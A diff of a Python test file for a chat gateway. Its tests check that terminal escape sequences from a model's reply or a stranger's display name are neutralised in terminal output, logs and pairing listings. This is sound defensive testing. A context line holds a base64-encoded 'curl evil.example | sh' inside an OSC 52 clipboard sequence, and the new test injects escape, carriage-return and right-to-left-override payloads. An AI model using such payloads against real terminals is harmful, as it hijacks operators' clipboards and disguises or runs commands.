@@ -254,3 +254,47 @@ def test_the_terminal_chat_prints_no_escape_sequences_from_the_model(tmp_path: P
     assert proc.returncode == 0, out + proc.stderr.decode()
     assert "safe answer]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==[2J31m done" in out
     assert not any(c in out for c in "\x1b\x07\x9b\r"), repr(out)
+
+
+# -- names strangers choose, in logs and listings ---------------------------------------------------
+async def test_a_strangers_display_name_cannot_drive_the_operators_terminal(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A stranger's display name is logged with their pairing code and listed by ``chital pairing
+    list``: an escape sequence in it reached the operator's terminal (and a carriage return or a
+    right-to-left override could disguise the line)."""
+    import logging
+
+    from gateway.cli_pairing import _pairing
+    from gateway.logs import RedactingFilter
+
+    lines: list[str] = []
+
+    class Capture(logging.Handler):
+        def emit(self, record: logging.LogRecord) -> None:
+            lines.append(self.format(record))
+
+    handler = Capture()
+    handler.addFilter(RedactingFilter())
+    root = logging.getLogger()
+    level = root.level
+    root.addHandler(handler)
+    root.setLevel(logging.INFO)
+    evil = "Eve\x1b]0;owned\x07\r\u202eevila"
+    config = make_config(
+        access={"admins": [str(ADMIN)], "allow_users": [str(USER)]}, storage={"path": str(tmp_path)}
+    )
+    try:
+        async with fake_rig(tmp_path, config) as rig:
+            await rig.channel.deliver(dm(STRANGER, "hi", name=evil))
+            await until(lambda: rig.channel.in_chat(str(STRANGER)), what="the pairing code")
+    finally:
+        root.removeHandler(handler)
+        root.setLevel(level)
+    logged = next(line for line in lines if "asks for access" in line)
+    assert "Eve\\u001b]0;owned\\u0007\\u000d\\u202eevila" in logged
+    capsys.readouterr()
+    assert await _pairing(config, "list", None) == 0
+    listing = capsys.readouterr().out
+    assert "Eve\\u001b]0;owned\\u0007\\u000d\\u202eevila" in listing
+    assert not any(c in listing + logged for c in "\x1b\x07\r\u202e")
